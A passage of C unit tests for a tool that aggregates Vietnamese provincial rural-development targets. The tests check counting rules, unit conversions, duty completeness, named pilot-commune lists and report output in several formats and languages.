        sum_710);
    w = row(d, "hccb.health_insurance_pct", "72", "2017");
    assert_int_equal(json_integer_value(json_object_get(w, "num")), num_all);
    assert_int_equal(json_integer_value(json_object_get(w, "den")), den_all);
    w = row(d, "hccb.health_insurance_pct", "72.710", "2017");
    assert_int_equal(json_integer_value(json_object_get(w, "num")), num_710);
    assert_int_equal(json_integer_value(json_object_get(w, "den")), den_710);
    json_decref(d);
    json_decref(recs);
    json_decref(created);
}

static void
test_report_bad_options(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_error err = {0};
    o.unit = "72.999";
    assert_int_equal(ntm_report_run(f->plan, f->st, &o, &r, &err), NTM_ENOENT);
    assert_null(r);
    o.unit = NULL;
    o.as_of = "2017-13-01";
    assert_int_equal(ntm_report_run(f->plan, f->st, &o, &r, &err), NTM_EINVAL);
    o.as_of = NULL;
    o.org = "xyz";
    assert_int_equal(ntm_report_run(f->plan, f->st, &o, &r, &err), NTM_ENOENT);
}

/* A record of fields for ntm_report_run_records. */
static json_t *
mk(const char *id, const char *kind, const char *unit, json_t *fields)
{
    return json_pack("{s:s, s:s, s:s, s:s, s:o}", "id", id, "kind", kind,
                     "unit", unit, "org", "doan", "fields", fields);
}

/* The summary row of task at unit in the JSON "summary", or NULL. */
static json_t *
sum_row(json_t *doc, const char *task, const char *unit, int year)
{
    json_t *v;
    size_t i;
    json_array_foreach (json_object_get(doc, "summary"), i, v)
        if (!strcmp(json_string_value(json_object_get(v, "task")), task) &&
            !strcmp(json_string_value(json_object_get(v, "unit")), unit) &&
            json_integer_value(json_object_get(v, "period")) == year)
            return v;
    return NULL;
}

/* The row of task at unit in period of the JSON doc, checked. */
static void
expect_reg(json_t *d, const char *unit, const char *period, double target,
           double achieved, const char *status)
{
    json_t *v = row(d, "doan.youth_econ_clubs", unit, period);
    assert_non_null(v);
    assert_float_equal(json_real_value(json_object_get(v, "target")), target,
                       1e-9);
    assert_float_equal(json_real_value(json_object_get(v, "achieved")),
                       achieved, 1e-9);
    assert_string_equal(json_string_value(json_object_get(v, "status")),
                        status);
}

/*
 * A register: "build and maintain 95 clubs by 2017" counts the clubs
 * active at each year's end from 2016 to 2020, each club once.
 */
/* the completeness entry of task at unit in period, or NULL */
static json_t *
compl_row(json_t *doc, const char *task, const char *unit, int period)
{
    json_t *a = json_object_get(doc, "completeness"), *w;
    size_t i;
    json_array_foreach (a, i, w)
        if (!strcmp(str(w, "task"), task) && !strcmp(str(w, "unit"), unit) &&
            json_integer_value(json_object_get(w, "period")) == period)
            return w;
    return NULL;
}

/* Duties with a calendar and their completeness, by hand. */
static void
test_report_duties(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d, *w, *a;
    size_t i;
    int n = 0;

    /* 2018 (as of 2018-12-31): 15 wards/towns, each owes 12 months */
    o.org = "doan";
    o.year = 2018;
    d = run(f, &o);
    expect(d, "doan.env_activities", "72", "2018", 180, 11, "missed");
    a = json_object_get(d, "duties");
    json_array_foreach (a, i, w) {
        if (strcmp(str(w, "task"), "doan.env_activities"))
            continue;
        n++;
        assert_int_equal(json_integer_value(json_object_get(w, "due")), 12);
        if (!strcmp(str(w, "unit"), "72.703.25456")) {
            /* Phuong 1: 11 of 12, July missing */
            assert_int_equal(json_integer_value(json_object_get(w, "reported")),
                             11);
            assert_int_equal(json_array_size(json_object_get(w, "missing")), 1);
            assert_string_equal(json_string_value(json_array_get(
                                    json_object_get(w, "missing"), 0)),
                                "2018-07");
        } else
            assert_int_equal(json_array_size(json_object_get(w, "missing")),
                             12);
    }
    assert_int_equal(n, 15);
    /* 11 / (15 x 12) = 11 / 180 = 6.11 % -> 6.1; none complete */
    w = compl_row(d, "doan.env_activities", "72", 2018);
    assert_non_null(w);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 180);
    assert_int_equal(json_integer_value(json_object_get(w, "reported")), 11);
    assert_true(json_real_value(json_object_get(w, "rate")) == 6.1);
    assert_int_equal(json_integer_value(json_object_get(w, "units")), 15);
    assert_int_equal(json_integer_value(json_object_get(w, "units_complete")),
                     0);
    assert_int_equal(json_array_size(json_object_get(w, "units_missing")), 15);
    /* Thanh pho Tay Ninh: 7 wards, 11 / (7 x 12) = 11 / 84 = 13.10 % */
    w = compl_row(d, "doan.env_activities", "72.703", 2018);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 84);
    assert_true(json_real_value(json_object_get(w, "rate")) == 13.1);
    /* World Environment Day, each commune (95 in 2018): 0 / 95 */
    w = compl_row(d, "doan.environment_day", "72", 2018);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 95);
    assert_true(json_real_value(json_object_get(w, "rate")) == 0);
    json_decref(d);

    /* on 2018-06-05 the window 06-01..06-10 is not over: nothing due, no
     * rate; January to May are: 5 / (15 x 5) = 5 / 75 = 6.67 % -> 6.7 */
    o.year = 0;
    o.as_of = "2018-06-05";
    d = run(f, &o);
    w = compl_row(d, "doan.environment_day", "72", 2018);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 0);
    assert_true(json_is_null(json_object_get(w, "rate")));
    w = compl_row(d, "doan.env_activities", "72", 2018);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 75);
    assert_int_equal(json_integer_value(json_object_get(w, "reported")), 5);
    assert_true(json_real_value(json_object_get(w, "rate")) == 6.7);
    /* the yearly review of each district's Front: 2018 not over */
    o.org = "mttq";
    json_decref(d);
    d = run(f, &o);
    w = compl_row(d, "mttq.annual_review", "72", 2018);
    assert_int_equal(json_integer_value(json_object_get(w, "units")), 9);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 0);
    json_decref(d);
}

static void
test_report_register(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_error err = {0};
    json_t *recs = json_array(), *d, *nc;
    const char *gd = "72.710.25657", *tn = "72.703.25456";
    const char *T = "doan.youth_econ_clubs";

    /* c1: a club of Go Dau's commune */
    json_array_append_new(
        recs, mk("c1", "activity", gd,
                 json_pack("{s:s, s:s, s:s}", "task", T, "date", "2016-03-01",
                           "name", "CLB Thanh niên làm kinh tế ấp A")));
    /* c2: the same club again (same unit, same name folded): a duplicate */
    json_array_append_new(
        recs, mk("c2", "activity", gd,
                 json_pack("{s:s, s:s, s:s}", "task", T, "date", "2017-05-01",
                           "name", "clb thanh nien lam kinh te AP A")));
    /* c3: named by its title, dissolved in mid-2018 */
    json_array_append_new(
        recs,
        mk("c3", "activity", gd,
           json_pack("{s:s, s:s, s:s, s:s}", "task", T, "date", "2016-06-01",
                     "title", "CLB Trồng nấm", "dissolved", "2018-06-30")));
    /* c4: the same name in another unit is another club */
    json_array_append_new(
        recs, mk("c4", "activity", tn,
                 json_pack("{s:s, s:s, s:s}", "task", T, "date", "2017-02-01",
                           "name", "CLB Thanh niên làm kinh tế ấp A")));
    /* c5: a club set up in 2019 */
    json_array_append_new(
        recs, mk("c5", "activity", tn,
                 json_pack("{s:s, s:s, s:s}", "task", T, "date", "2019-01-10",
                           "name", "Tổ hợp tác rau sạch")));

    o.as_of = "2020-12-31";
    if (ntm_report_run_records(f->plan, recs, NULL, &o, &r, &err))
        fail_msg("report: %s", err.msg);
    d = ntm_report_json(r, "en");
    /* 2016: c1, c3 = 2; still building: 2 < 95 x 366 / 731 = 47.6 */
    expect_reg(d, "72", "2016", 95, 2, "behind");
    /* 2017 (the deadline): c1, c3, c4 = 3 of 95; c2 is c1 again */
    expect_reg(d, "72", "2017", 95, 3, "missed");
    /* 2018: c3 dissolved on 2018-06-30: c1, c4 = 2 */
    expect_reg(d, "72", "2018", 95, 2, "missed");
    /* 2019, 2020: c1, c4, c5 = 3: maintained to 2020, never vanishing */
    expect_reg(d, "72", "2019", 95, 3, "missed");
    expect_reg(d, "72", "2020", 95, 3, "missed");
    /* Go Dau (9 of 94 communes in the 2020 tree): 95 x 9 / 94 = 9.09,
     * whole 9 (the one step left goes to 72.708, remainder 15/94);
     * 2018: c1 alone */
    expect_reg(d, "72.710", "2018", 9, 1, "missed");
    expect_reg(d, "72.710", "2017", 9, 2, "missed");
    /* c2 listed as not counted, naming the record counted */
    nc = json_object_get(d, "not_counted");
    assert_int_equal(json_array_size(nc), 1);
    assert_string_equal(
        json_string_value(json_object_get(json_array_get(nc, 0), "id")), "c2");
    assert_string_equal(json_string_value(json_object_get(json_array_get(nc, 0),
                                                          "reason_code")),
                        "duplicate");
    assert_non_null(strstr(
        json_string_value(json_object_get(json_array_get(nc, 0), "reason")),
        "as record c1"));
    /* the summary counts c2 nowhere: 2017 = c4 alone */
    assert_int_equal(json_integer_value(json_object_get(
                         sum_row(d, T, "72", 2017), "activities")),
                     1);
    json_decref(d);
    ntm_report_free(r);
    json_decref(recs);
}

/*
 * Every organization in the report: the Farmers' Union has no numeric
 * target, and its work shows per task, unit and year - activities,
 * quantity in the task's canonical unit, people, money and working days.
 */
static void
test_report_every_org(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_error err = {0};
    struct ntm_buf b = NTM_BUF_INIT;
    json_t *recs = json_array(), *d, *v;
    const char *gd = "72.710.25657", *tn = "72.703.25456";

    /* hnd.land_donation (m2; ha x 10000) */
    json_array_append_new(
        recs, mk("l1", "activity", gd,
                 json_pack("{s:s, s:s, s:s, s:s, s:i, s:s, s:i}", "task",
                           "hnd.land_donation", "date", "2018-03-01", "qty",
                           "0.5", "uom", "ha", "people", 12, "labor_days", "30",
                           "amount_vnd", 2000000)));
    json_array_append_new(
        recs, mk("l2", "activity", gd,
                 json_pack("{s:s, s:s, s:s, s:s, s:i}", "task",
                           "hnd.land_donation", "date", "2018-04-01", "qty",
                           "250", "uom", "m2", "people", 8)));
    json_array_append_new(
        recs, mk("l3", "activity", tn,
                 json_pack("{s:s, s:s, s:s}", "task", "hnd.land_donation",
                           "date", "2018-05-01", "labor_days", "4.5")));
    /* another year: not in --year 2018 */
    json_array_append_new(
        recs, mk("l4", "activity", gd,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "hnd.land_donation",
                           "date", "2017-06-01", "qty", "100", "uom", "m2")));
    /* a unit the task does not accept: not counted, in no summary */
    json_array_append_new(
        recs, mk("l5", "activity", gd,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "hnd.land_donation",
                           "date", "2018-08-01", "qty", "2", "uom", "km")));
    /* hnd.for_the_poor_fund (vnd; trieu_dong x 1000000): money is
     * amount_vnd where recorded, else the quantity in vnd */
    json_array_append_new(
        recs, mk("p1", "activity", tn,
                 json_pack("{s:s, s:s, s:s, s:s, s:i}", "task",
                           "hnd.for_the_poor_fund", "date", "2018-06-01", "qty",
                           "1.5", "uom", "trieu_dong", "people", 3)));
    json_array_append_new(
        recs, mk("p2", "activity", tn,
                 json_pack("{s:s, s:s, s:s, s:s, s:i}", "task",
                           "hnd.for_the_poor_fund", "date", "2018-07-01", "qty",
                           "500000", "uom", "vnd", "amount_vnd", 600000)));
    /* another organization's work: not in --org hnd */
    json_array_append_new(
        recs, mk("d1", "activity", gd,
                 json_pack("{s:s, s:s}", "task", "doan.migrant_teams", "date",
                           "2018-02-01")));

    o.org = "hnd";
    o.year = 2018;
    if (ntm_report_run_records(f->plan, recs, NULL, &o, &r, &err))
        fail_msg("report: %s", err.msg);
    assert_int_equal(r->nrows, 0); /* hnd has no numeric target */
    assert_int_equal(r->nskips, 1);
    d = ntm_report_json(r, "en");
    assert_int_equal(json_array_size(json_object_get(d, "summary")), 5);
    /* province: l1 + l2 + l3 = 3 activities; 0.5 ha x 10000 + 250 m2 =
     * 5250 m2; people 12 + 8 = 20; money 2000000 (l1's amount_vnd);
     * working days 30 + 4.5 = 34.5 */
    assert_non_null(v = sum_row(d, "hnd.land_donation", "72", 2018));
    assert_int_equal(json_integer_value(json_object_get(v, "activities")), 3);
    assert_int_equal(json_integer_value(json_object_get(v, "measures")), 0);
    assert_float_equal(json_real_value(json_object_get(v, "quantity")), 5250,
                       1e-9);
    assert_string_equal(
        json_string_value(json_object_get(v, "unit_of_measure")), "m2");
    assert_int_equal(json_integer_value(json_object_get(v, "people")), 20);
    assert_float_equal(json_real_value(json_object_get(v, "amount_vnd")),
                       2000000, 1e-9);
    assert_float_equal(json_real_value(json_object_get(v, "labor_days")), 34.5,
                       1e-9);
    assert_int_equal(json_integer_value(json_object_get(v, "depth")), 0);
    /* Go Dau: l1 + l2 = 2 activities, 5250 m2, 20 people, 30 days */
    assert_non_null(v = sum_row(d, "hnd.land_donation", "72.710", 2018));
    assert_int_equal(json_integer_value(json_object_get(v, "activities")), 2);
    assert_float_equal(json_real_value(json_object_get(v, "quantity")), 5250,
                       1e-9);
    assert_float_equal(json_real_value(json_object_get(v, "labor_days")), 30,
                       1e-9);
    /* Tay Ninh city: l3 alone, no quantity, people or money recorded */
    assert_non_null(v = sum_row(d, "hnd.land_donation", "72.703", 2018));
    assert_int_equal(json_integer_value(json_object_get(v, "activities")), 1);
    assert_true(json_is_null(json_object_get(v, "quantity")));
    assert_true(json_is_null(json_object_get(v, "people")));
    assert_true(json_is_null(json_object_get(v, "amount_vnd")));
    assert_float_equal(json_real_value(json_object_get(v, "labor_days")), 4.5,
                       1e-9);
    /* the fund: 1.5 x 1000000 + 500000 = 2000000 vnd; money 1500000 (p1's
     * quantity) + 600000 (p2's amount_vnd) = 2100000; people 3 */
    assert_non_null(v = sum_row(d, "hnd.for_the_poor_fund", "72", 2018));
    assert_int_equal(json_integer_value(json_object_get(v, "activities")), 2);
    assert_float_equal(json_real_value(json_object_get(v, "quantity")), 2000000,
                       1e-9);
    assert_float_equal(json_real_value(json_object_get(v, "amount_vnd")),
                       2100000, 1e-9);
    assert_int_equal(json_integer_value(json_object_get(v, "people")), 3);
    assert_true(json_is_null(json_object_get(v, "labor_days")));
    assert_non_null(sum_row(d, "hnd.for_the_poor_fund", "72.703", 2018));
    assert_null(sum_row(d, "hnd.for_the_poor_fund", "72.710", 2018));
    assert_null(sum_row(d, "doan.migrant_teams", "72", 2018));
    json_decref(d);
    /* the table: the Farmers' Union's work, English figures */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_TABLE, "en", &b, &err),
                     NTM_OK);
    assert_non_null(strstr(b.buf, "Work recorded"));
    assert_non_null(strstr(b.buf, "hnd.land_donation"));
    assert_non_null(strstr(b.buf, "34.5"));
    assert_non_null(strstr(b.buf, "2100000"));
    ntm_buf_release(&b);
    /* in Vietnamese, figures grouped the Vietnamese way */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_TABLE, "vi", &b, &err),
                     NTM_OK);
    assert_non_null(strstr(b.buf, "2.100.000"));
    assert_non_null(strstr(b.buf, "34,5"));
    ntm_buf_release(&b);
    /* CSV: status summary, quantity in achieved, the new columns */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "en", &b, &err),
                     NTM_OK);
    assert_non_null(strstr(b.buf, "hnd.land_donation,"));
    assert_non_null(strstr(b.buf, ",72,Tỉnh Tây Ninh,2018,,5250,m2,summary,"));
    assert_non_null(strstr(b.buf, ",3,0,20,2000000,34.5\r\n"));
    ntm_buf_release(&b);
    /* HTML: a summary section with a row per task, unit and year */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_HTML, "vi", &b, &err),
                     NTM_OK);
    assert_non_null(strstr(b.buf, "<section class=\"summary\""));
    assert_non_null(strstr(b.buf, "data-task=\"hnd.land_donation\" "
                                  "data-unit=\"72.710\" "
                                  "data-period=\"2018\""));
    ntm_buf_release(&b);
    ntm_report_free(r);
    /* a report on the district: itself, then its commune */
    o.unit = "72.710";
    if (ntm_report_run_records(f->plan, recs, NULL, &o, &r, &err))
        fail_msg("report: %s", err.msg);
    assert_int_equal(r->nsums, 2);
    assert_string_equal(r->sums[0].unit, "72.710");
    assert_int_equal(r->sums[0].depth, 0);
    assert_string_equal(r->sums[1].unit, gd);
    assert_int_equal(r->sums[1].activities, 2);
    ntm_report_free(r);
    json_decref(recs);
}

/*
 * Units converted by the data dictionary, records the plan cannot count
 * listed in every format, and a district's own measure beside its
 * commune's, all computed by hand.
 */
static void
test_report_units_and_own_measures(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_buf b = NTM_BUF_INIT;
    json_t *recs = json_array(), *d, *w, *nc;
    const char *T = "72.710.25657";

    json_array_append_new(
        recs, mk("00000000000000000000000000000a01", "activity", T,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "doan.canals_km",
                           "date", "2017-03-01", "qty", "2.4", "uom", "km")));
    json_array_append_new(
        recs, mk("00000000000000000000000000000a02", "activity", T,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "doan.canals_km",
                           "date", "2017-04-01", "qty", "500", "uom", "m2")));
    json_array_append_new(
        recs, mk("00000000000000000000000000000a03", "activity", T,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "doan.canals_km",
                           "date", "2017-05-01", "qty", "300", "uom", "m")));
    /* a measure on a km target, 300/200 poor members: never counted */
    json_array_append_new(
        recs, mk("00000000000000000000000000000a04", "measure", T,
                 json_pack("{s:s, s:s, s:i, s:i}", "task", "doan.canals_km",
                           "period", "2017", "num", 1, "den", 2)));
    json_array_append_new(
        recs, mk("00000000000000000000000000000a05", "measure", T,
                 json_pack("{s:s, s:s, s:i, s:i}", "task", "hccb.poor_rate_pct",
                           "period", "2017", "num", 300, "den", 200)));
    /* health insurance: 900/1000 at the district, 100/200 at a commune */
    json_array_append_new(
        recs, mk("00000000000000000000000000000a06", "measure", "72.710",
                 json_pack("{s:s, s:s, s:i, s:i}", "task",
                           "hccb.health_insurance_pct", "period", "2017", "num",
                           900, "den", 1000)));
    json_array_append_new(recs,
                          mk("00000000000000000000000000000a07", "measure", T,
                             json_pack("{s:s, s:s, s:i, s:i}", "task",
                                       "hccb.health_insurance_pct", "period",
                                       "2017", "num", 100, "den", 200)));
    o.year = 2017;
    assert_int_equal(ntm_report_run_records(f->plan, recs, NULL, &o, &r, NULL),
                     NTM_OK);
    d = ntm_report_json(r, "en");
    /* 2.4 km + 300 m x 0.001 = 2.4 + 0.3 = 2.7 km; the 500 m2 not counted
     * (was 2.4 + 500 + 300 = 802.4) */
    expect(d, "doan.canals_km", "72", "2017", 30, 2.7, "missed");
    expect(d, "doan.canals_km", "72.710", "2017", 2.84, 2.7, "missed");
    /* the district's own 900/1000 = 90.00 % stands; its commune's
     * 100/200 = 50.00 % is shown beside it (was 1000/1200 = 83.33 %); the
     * province has none: the sum of the topmost figures below, 90 % */
    expect(d, "hccb.health_insurance_pct", "72.710", "2017", 90, 90, "met");
    w = row(d, "hccb.health_insurance_pct", "72.710", "2017");
    assert_true(json_real_value(json_object_get(w, "children")) == 50);
    assert_int_equal(json_integer_value(json_object_get(w, "children_num")),
                     100);
    expect(d, "hccb.health_insurance_pct", "72", "2017", 90, 90, "met");
    assert_true(json_is_null(json_object_get(
        row(d, "hccb.health_insurance_pct", "72", "2017"), "children")));
    nc = json_object_get(d, "not_counted");
    assert_int_equal(json_array_size(nc), 3);
    /* sorted by unit, task, date: canals (measure 2017, m2 2017-04-01),
     * then the poor rate */
    assert_string_equal(str(json_array_get(nc, 0), "reason_code"),
                        "wrong_kind");
    assert_string_equal(str(json_array_get(nc, 1), "reason_code"),
                        "uom_not_accepted");
    assert_non_null(strstr(str(json_array_get(nc, 1), "reason"),
                           "unit m2 not accepted for km"));
    assert_string_equal(str(json_array_get(nc, 1), "unit"), T);
    assert_string_equal(str(json_array_get(nc, 2), "reason_code"),
                        "num_above_den");
    json_decref(d);
    /* the district report: the commune's 50 % as its own */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_TABLE, "en", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), "Not counted"));
    assert_non_null(strstr(ntm_buf_str(&b), "unit m2 not accepted for km"));
    b.len = 0;
    assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "en", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), ",not_counted,"));
    assert_non_null(
        strstr(ntm_buf_str(&b), "00000000000000000000000000000a02"));
    b.len = 0;
    assert_int_equal(ntm_report_format(r, NTM_REPORT_HTML, "vi", &b, NULL),
                     NTM_OK);
    assert_non_null(
        strstr(ntm_buf_str(&b), "data-reason=\"uom_not_accepted\""));
    assert_non_null(strstr(ntm_buf_str(&b), "không nhận đơn vị m2 cho km"));
    ntm_buf_release(&b);
    ntm_report_free(r);
    o.unit = T;
    assert_int_equal(ntm_report_run_records(f->plan, recs, NULL, &o, &r, NULL),
                     NTM_OK);
    d = ntm_report_json(r, "en");
    expect(d, "hccb.health_insurance_pct", T, "2017", 90, 50, "missed");
    json_decref(d);
    ntm_report_free(r);
    json_decref(recs);
}

/* Nothing silently dropped: a km activity without its quantity is listed
 * (not added as 0 km). Canals 2017 at Thạnh Đức: 1.5 km at the commune and
 * 9 km at a hamlet the shipped tree does not hold (it rolls up to its
 * commune by its code) are counted: 1.5 + 9 = 10.5 km; the record with no
 * quantity is listed, the only one. */
static void
test_report_nothing_dropped(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    json_t *recs = json_array(), *d, *nc;
    const char *T = "72.710.25657";

    json_array_append_new(
        recs, mk("00000000000000000000000000000b01", "activity", T,
                 json_pack("{s:s, s:s, s:s, s:s}", "task", "doan.canals_km",
                           "date", "2017-03-01", "qty", "1.5", "uom", "km")));
    json_array_append_new(
        recs, mk("00000000000000000000000000000b02", "activity", T,
                 json_pack("{s:s, s:s, s:s}", "task", "doan.canals_km", "date",
                           "2017-03-02", "title", "no km given")));
    json_array_append_new(
        recs,
        mk("00000000000000000000000000000b03", "activity", "72.710.25657.99",
           json_pack("{s:s, s:s, s:s, s:s}", "task", "doan.canals_km", "date",
                     "2017-03-03", "qty", "9", "uom", "km")));
    o.year = 2017;
    assert_int_equal(ntm_report_run_records(f->plan, recs, NULL, &o, &r, NULL),
                     NTM_OK);
    d = ntm_report_json(r, "en");
    expect(d, "doan.canals_km", "72", "2017", 30, 10.5, "missed");
    nc = json_object_get(d, "not_counted");
    assert_int_equal(json_array_size(nc), 1);
    assert_string_equal(str(json_array_get(nc, 0), "reason_code"), "no_qty");
    assert_string_equal(str(json_array_get(nc, 0), "unit"), T);
    assert_non_null(
        strstr(str(json_array_get(nc, 0), "reason"), "no quantity"));
    json_decref(d);
    ntm_report_free(r);
    json_decref(recs);
}

/* A measure record of a task for ntm_report_run_records. */
static json_t *
mmeas(const char *id, const char *unit, const char *task, int num, int den)
{
    return mk(id, "measure", unit,
              json_pack("{s:s, s:s, s:i, s:i}", "task", task, "period", "2018",
                        "num", num, "den", den));
}

/*
 * A target judged against a named list (config/README.md, "Named lists"):
 * "the 25 pilot communes all rated strong", with a list naming 4 of them:
 * Thạnh Đức and Cẩm Giang (Gò Dầu), Phường 1 (Tây Ninh city), Tân Lập (Tân
 * Biên). 2018: Thạnh Đức 1/1 (strong), Cẩm Giang 0/1, Phường 1 1/1, Tân
 * Lập nothing. By hand:
 *   province: 2 strong of 25 (the plan's number: a commune not named
 *             cannot count) = 8 %, missed;
 *   Gò Dầu:   1 of its 2 listed = 50 %, missed;
 *   Tây Ninh city: 1 of 1 = 100 %, met;   Tân Biên: 0 rated, no data;
 *   Tân Châu: no listed commune, no row;
 *   not counted: the district's own 2/2 and Tân Hà's 1/1 (not listed);
 *   completeness: 3 of the 4 listed communes reported = 75 %, Tân Lập
 *   missing.
 * With the shipped list (named none), the same records are judged as
 * measures: nothing is listed as not counted and the legend says so.
 */
static void
test_report_named_list(void **state)
{
    struct fx *f = *state;
    const char *T = "doan.pilot_communes_strong";
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_plan *p = NULL;
    struct ntm_error err = {0};
    struct ntm_buf b = NTM_BUF_INIT;
    json_t *recs = json_array(), *d, *nc, *w;
    char dir[64], cmd[256];
    FILE *fp;

    snprintf(dir, sizeof(dir), "%s/config", f->dir);
    snprintf(cmd, sizeof(cmd), "cp -r '%s' '%s'", getenv("NTM_CONFIG_DIR"),
             dir);
    assert_int_equal(system(cmd), 0);
    snprintf(cmd, sizeof(cmd), "%s/pilot-communes.csv", dir);
    assert_non_null(fp = fopen(cmd, "w"));
    fputs("# filled by the province\ncode,name\n72.710.25657,Xã Thạnh Đức\n"
          "72.710.25660,Xã Cẩm Giang\n72.703.25456\n\n72.705.25489,Tân Lập\n",
          fp);
    fclose(fp);
    assert_int_equal(ntm_plan_load(&p, dir, &err), NTM_OK);

    json_array_append_new(recs, mmeas("00000000000000000000000000000c01",
                                      "72.710.25657", T, 1, 1));
    json_array_append_new(recs, mmeas("00000000000000000000000000000c02",
                                      "72.710.25660", T, 0, 1));
    json_array_append_new(recs, mmeas("00000000000000000000000000000c03",
                                      "72.703.25456", T, 1, 1));
    json_array_append_new(
        recs, mmeas("00000000000000000000000000000c04", "72.710", T, 2, 2));
    json_array_append_new(recs, mmeas("00000000000000000000000000000c05",
                                      "72.706.25519", T, 1, 1));
    o.year = 2018;
    o.org = "doan";
    assert_int_equal(ntm_report_run_records(p, recs, NULL, &o, &r, NULL),
                     NTM_OK);
    d = ntm_report_json(r, "en");
    expect(d, T, "72", "2018", 100, 8, "missed");
    w = row(d, T, "72", "2018");
    assert_int_equal(json_integer_value(json_object_get(w, "num")), 2);
    assert_int_equal(json_integer_value(json_object_get(w, "den")), 25);
    assert_string_equal(str(w, "basis"), "list");
    expect(d, T, "72.710", "2018", 100, 50, "missed");
    expect(d, T, "72.703", "2018", 100, 100, "met");
    assert_string_equal(str(row(d, T, "72.705", "2018"), "status"), "no_data");
    assert_null(row(d, T, "72.706", "2018"));
    nc = json_object_get(d, "not_counted");
    assert_int_equal(json_array_size(nc), 2);
    assert_string_equal(str(json_array_get(nc, 0), "unit"), "72.706.25519");
    assert_string_equal(str(json_array_get(nc, 0), "reason_code"),
                        "not_listed");
    assert_string_equal(str(json_array_get(nc, 1), "unit"), "72.710");
    assert_string_equal(str(json_array_get(nc, 1), "reason_code"),
                        "not_listed");
    w = compl_row(d, T, "72", 2018);
    assert_non_null(w);
    assert_int_equal(json_integer_value(json_object_get(w, "units")), 4);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 4);
    assert_int_equal(json_integer_value(json_object_get(w, "reported")), 3);
    assert_true(json_real_value(json_object_get(w, "rate")) == 75);
    assert_int_equal(json_array_size(json_object_get(w, "units_missing")), 1);
    assert_string_equal(json_string_value(json_array_get(
                            json_object_get(w, "units_missing"), 0)),
                        "72.705.25489");
    w = json_array_get(json_object_get(d, "lists"), 0);
    assert_string_equal(str(w, "task"), T);
    assert_int_equal(json_integer_value(json_object_get(w, "expected")), 25);
    assert_int_equal(json_array_size(json_object_get(w, "named")), 4);
    assert_non_null(strstr(str(d, "legend"), "4 of 25 units named in "
                                             "pilot-communes.csv"));
    json_decref(d);
    /* the other formats carry the same figures and reasons */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_TABLE, "en", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), "4 of 25 units named"));
    assert_non_null(strstr(ntm_buf_str(&b), "not on the list"));
    b.len = 0;
    assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "en", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), ",list,"));
    /* Tân Lập's missing year: a duty row, and the completeness row */
    assert_non_null(strstr(ntm_buf_str(&b), ",72.705.25489,Xã Tân Lập,2018,"));
    assert_non_null(strstr(ntm_buf_str(&b), ",duty,"));
    assert_non_null(strstr(ntm_buf_str(&b), ",completeness,"));
    assert_non_null(
        strstr(ntm_buf_str(&b), "00000000000000000000000000000c05"));
    b.len = 0;
    assert_int_equal(ntm_report_format(r, NTM_REPORT_HTML, "vi", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), "data-reason=\"not_listed\""));
    assert_non_null(strstr(ntm_buf_str(&b), "Xã Tân Lập"));
    assert_non_null(strstr(ntm_buf_str(&b), "pilot-communes.csv"));
    ntm_buf_release(&b);
    ntm_report_free(r);

    /* the shipped list names none: judged on the measures as recorded
     * (the province has none: the topmost figures below, (1+0+1+2+1) /
     * (1+1+1+2+1) with the district's 2/2 standing for Gò Dầu: 1+2+1 /
     * 1+2+1 = 100 %) and nothing listed as not counted */
    assert_int_equal(ntm_report_run_records(f->plan, recs, NULL, &o, &r, NULL),
                     NTM_OK);
    d = ntm_report_json(r, "en");
    expect(d, T, "72", "2018", 100, 100, "met");
    assert_string_equal(str(row(d, T, "72.710", "2018"), "basis"), "rate");
    assert_int_equal(json_array_size(json_object_get(d, "not_counted")), 0);
    assert_non_null(strstr(str(d, "legend"), "names none yet"));
    json_decref(d);
    ntm_report_free(r);
    ntm_plan_free(p);
    json_decref(recs);
}

/* A list that names a unit twice, a hamlet, or an unknown code is refused
 * when the plan loads, with the line. */
static void
test_report_named_list_refused(void **state)
{
    struct fx *f = *state;
    static const char *const bad[] = {
        "code,name\n72.710.25657\n72.710.25657\n", /* twice */
        "code,name\n72.710\n",                     /* a district */
        "code,name\n99.999\n",                     /* unknown */
        "72.710.25657\n",                          /* no header */
    };
    struct ntm_plan *p = NULL;
    struct ntm_error err = {0};
    char dir[64], cmd[256];
    size_t i;
    FILE *fp;

    snprintf(dir, sizeof(dir), "%s/config-bad", f->dir);
    snprintf(cmd, sizeof(cmd), "cp -r '%s' '%s'", getenv("NTM_CONFIG_DIR"),
             dir);
    assert_int_equal(system(cmd), 0);
